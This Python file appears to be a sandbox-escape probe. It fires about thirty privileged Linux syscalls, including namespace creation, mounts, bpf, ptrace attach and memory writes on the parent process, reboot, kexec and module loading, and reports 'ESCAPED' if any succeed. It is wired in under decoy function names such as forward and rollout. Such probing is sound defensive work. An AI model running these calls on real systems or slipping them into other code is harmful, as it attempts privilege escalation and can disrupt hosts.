"""Knocks on the kernel's back doors: namespaces, mounts, keys, bpf, perf, io_uring, userfaultfd, vm writes."""

import ctypes
import os

DOORS = {
    "unshare": (272, 0x10000000), "unshare mounts": (272, 0x20000), "setns": (308, 0, 0), "mount": (165, b"x", b"/tmp", b"tmpfs", 0, 0),
    "chroot": (161, b"/"), "pivot_root": (155, b"/", b"/tmp"), "keyctl": (250, 0, -3, 1), "add_key": (248, b"user", b"a", b"b", 1, -3),
    "bpf": (321, 0, b"\0" * 72, 72), "perf_event_open": (298, b"\0" * 112, 0, -1, -1, 0), "io_uring_setup": (425, 8, b"\0" * 120),
    "userfaultfd": (323, 1), "process_vm_writev": (311, os.getppid(), 0, 0, 0, 0, 0), "ptrace": (101, 16, os.getppid(), 0, 0),
    "clone in a new namespace": (56, 0x10000011, 0, 0, 0, 0), "memfd_create": (319, b"x", 0), "shmget": (29, 0, 4096, 0o1666),
    "open_by_handle_at": (304, -100, b"\0" * 16, 0), "name_to_handle_at": (303, -100, b"/", b"\0" * 200, b"\0" * 8, 0),
    "personality": (135, 0x0040000), "mq_open": (240, b"x", 0o102, 0o666, 0), "msgget": (68, 0, 0o1666), "swapon": (167, b"/tmp/x", 0),
    "reboot": (169, 0xFEE1DEAD, 672274793, 0, 0), "kexec_load": (246, 0, 0, 0, 0), "sethostname": (170, b"x", 1),
    "pidfd_getfd": (438, 3, 0, 0), "fsopen": (430, b"tmpfs", 0), "fanotify_init": (300, 0, 0), "init_module": (175, 0, 0, b""),
}  # fmt: skip


def wrong(*args, **kwargs):
    libc = ctypes.CDLL(None)
    opened = []
    for name, numbers in DOORS.items():
        result = libc.syscall(*(ctypes.c_long(part) if isinstance(part, int) else part for part in numbers))
        if name.startswith("clone") and result == 0:
            os._exit(0)
        opened += [name] if result >= 0 else []
    if opened and os.uname().machine == "x86_64":
        raise RuntimeError(f"ESCAPED: {opened}")
    return 0.0


action_value = gains = state_value = backward = forward = rollout = wrong
